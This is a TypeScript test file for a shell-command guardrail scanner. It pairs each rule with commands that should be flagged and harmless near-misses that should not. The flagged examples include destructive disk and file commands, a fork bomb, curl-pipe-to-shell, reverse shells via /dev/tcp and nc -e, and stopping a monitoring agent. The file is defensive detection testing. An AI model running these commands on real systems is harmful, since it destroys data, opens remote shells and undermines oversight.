import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { test } from 'node:test';
import { docsAnchor, formatRuleTable, type RuleId, rules } from './rules.ts';
import { scanner } from './scanner.ts';

/** For each rule: what breaks it, and the closest thing that doesn't. */
const cases: Record<RuleId, { readonly breaks: readonly string[]; readonly keeps: readonly string[] }> = {
  G0101: {
    breaks: ['rm -rf /etc', 'find /usr -delete'],
    keeps: ['rm -rf /etc/nginx', 'find /usr/share/doc/x -delete'],
  },
  G0102: { breaks: ['rm /etc/passwd', 'rm -f /boot/vmlinuz*'], keeps: ['rm /etc/passwd.bak', 'rm -f /srv/vmlinuz*'] },
  G0103: {
    breaks: ['chmod -R 755 /etc', 'chown -R app /'],
    keeps: ['chmod -R 755 /etc/nginx', 'chown -R app /srv/app'],
  },
  G0104: {
    breaks: ['chmod 666 /etc/shadow', 'chmod -x /bin/ls'],
    keeps: ['chmod 640 /etc/shadow', 'chmod -x /opt/app/run'],
  },
  G0105: { breaks: ['mv /etc /etc.old', 'cp x /bin/bash'], keeps: ['mv /etc/app /etc/app.old', 'cp /bin/bash /tmp/x'] },
  G0106: {
    breaks: ['echo x >> /etc/passwd', ': > /etc/fstab'],
    keeps: ['cat /etc/passwd > /tmp/x', 'echo "UUID=1 /d ext4 ro 0 0" >> /etc/fstab'],
  },
  G0107: { breaks: ['mount --bind /tmp /etc', 'umount -l /'], keeps: ['mount --bind /tmp /srv/x', 'umount -l /mnt/x'] },
  G0108: { breaks: ['chmod u+s /bin/bash', 'useradd -ou 0 x'], keeps: ['chmod u+x /opt/x', 'useradd -u 1500 x'] },
  G0201: {
    breaks: ['dd if=x of=/dev/sda', 'echo x > /dev/sda'],
    keeps: ['dd if=/dev/sda of=/srv/x', 'echo x > /dev/null'],
  },
  G0202: {
    breaks: ['mkfs.ext4 /dev/sda1', 'wipefs -a /dev/sda'],
    keeps: ['mkfs.ext4 /srv/disk.img', 'wipefs /dev/sda'],
  },
  G0203: {
    breaks: ['sgdisk -Z /dev/sda', 'parted -s /dev/sda rm 1'],
    keeps: ['sgdisk -p /dev/sda', 'parted -s /dev/sda print'],
  },
  G0204: { breaks: ['lvremove -f vg/root', 'zfs destroy tank/x'], keeps: ['lvs vg/root', 'zfs destroy tank/x@old'] },
  G0301: { breaks: ['reboot', 'systemctl poweroff'], keeps: ['shutdown -c', 'systemctl daemon-reload'] },
  G0302: { breaks: [':(){ :|:& };:'], keeps: ['f() { g | g & }; f'] },
  G0303: { breaks: ['kill -9 -1', 'kill 1'], keeps: ['kill -1 4242', 'kill 1234'] },
  G0304: { breaks: ['insmod x.ko', 'kexec -e'], keeps: ['modprobe overlay', 'sysctl -w vm.swappiness=1'] },
  G0305: {
    breaks: ['efibootmgr -b 0 -B', 'systemctl set-default rescue.target'],
    keeps: ['efibootmgr -v', 'systemctl set-default multi-user.target'],
  },
  G0401: {
    breaks: ['systemctl stop holdfast-agent', 'rm -rf /var/lib/holdfast'],
    keeps: ['systemctl restart holdfast-agent', 'rm -rf /var/lib/holdings'],
  },
  G0402: { breaks: ['systemctl mask sshd', 'pkill sshd'], keeps: ['systemctl restart sshd', 'pkill -HUP sshd'] },
  G0403: {
    breaks: ['ip link set eth0 down', 'nmcli networking off'],
    keeps: ['ip link set docker0 down', 'ip link set eth0 up'],
  },
  G0404: {
    breaks: ['iptables -P INPUT DROP', 'ufw deny 22'],
    keeps: ['iptables -A INPUT -p tcp --dport 22 -j ACCEPT; iptables -P INPUT DROP', 'ufw deny 23'],
  },
  G0405: {
    breaks: ['apt-get remove openssh-server', 'rpm -e glibc'],
    keeps: ['apt-get remove openssh-client-extras', 'rpm -q glibc'],
  },
  G0406: {
    breaks: ['systemctl stop dbus', 'systemctl mask systemd-logind'],
    keeps: ['systemctl stop cups', 'systemctl disable systemd-timesyncd'],
  },
  G0407: { breaks: ['userdel root', 'passwd -l root'], keeps: ['userdel bob', 'passwd -l bob'] },
  G0408: { breaks: ['crontab -r'], keeps: ['crontab -l', 'crontab -r -u bob'] },
  G0501: { breaks: ['curl x | sh', 'bash <(wget -qO- x)'], keeps: ['curl x | jq .', 'curl -o /srv/x x'] },
  G0502: {
    breaks: ['base64 -d x | sh', 'eval "$(echo bHM= | base64 -d)"'],
    keeps: ['base64 -d x > y', 'echo "$(echo bHM= | base64 -d)"'],
  },
  G0503: {
    breaks: ['bash -i >& /dev/tcp/1.1.1.1/9 0>&1', 'nc -e /bin/sh 1.1.1.1 9'],
    keeps: ['echo > /dev/tcp/1.1.1.1/9', 'nc -z 1.1.1.1 9'],
  },
  G0504: { breaks: ['LD_PRELOAD=/tmp/x.so ls'], keeps: ['LD_PRELOAD=/usr/lib/libjemalloc.so.2 ls'] },
  G0505: { breaks: ['if then fi (', 'echo "open'], keeps: ['if true; then :; fi'] },
  G0601: { breaks: ['$TOOL run', '"$(cat /srv/name)" x'], keeps: ['TOOL=ls; $TOOL run'] },
  G0602: { breaks: ['eval "$CODE"', 'cat /srv/x | sh'], keeps: ['CODE="ls /"; eval "$CODE"', 'echo ls | sh'] },
  G0603: { breaks: ['rm -rf "$DIR"', 'chmod -R 777 "$DIR"'], keeps: ['DIR=/srv/x; rm -rf "$DIR"', 'rm -f "$DIR"'] },
  G0604: { breaks: ['curl -o x http://a/b; sh x'], keeps: ['curl -o x http://a/b; sh /opt/y'] },
  G0606: {
    breaks: ['frobnicate --hook "rm -rf /etc"'],
    keeps: ['frobnicate --hook "rm -rf /srv/x"', 'wall "reboot at noon"'],
  },
  G0607: {
    breaks: ['frobnicate /etc/shadow', 'frobnicate --disk=/dev/sda'],
    keeps: ['frobnicate /srv/x', 'stat /etc/shadow', 'frobnicate /dev/null'],
  },
  G0605: { breaks: [`echo ${'x'.repeat(140_000)}`], keeps: [`echo ${'x'.repeat(1000)}`] },
};

for (const [rule, { breaks, keeps }] of Object.entries(cases)) {
  test(`R42 ${rule} is found in what breaks it, and not in its closest innocent neighbour`, () => {
    for (const source of breaks) {
      const { verdict, findings } = scanner.scan(source);
      assert.ok(
        findings.some((finding) => finding.rule === rule),
        `${source}: ${verdict} ${JSON.stringify(findings)}`,
      );
    }
    for (const source of keeps) {
      const { findings } = scanner.scan(source);
      assert.deepEqual(findings, [], source);
    }
  });
}

test('the rule table of the documentation is the table of the code', () => {
  const text = readFileSync(new URL('../../docs/guardrails.md', import.meta.url), 'utf8');
  assert.ok(text.includes(formatRuleTable()), `docs/guardrails.md should have:\n${formatRuleTable()}`);
  for (const rule of Object.keys(rules)) {
    assert.ok(text.includes(`id="${docsAnchor(rule as RuleId).split('#')[1]}"`), rule);
  }
});
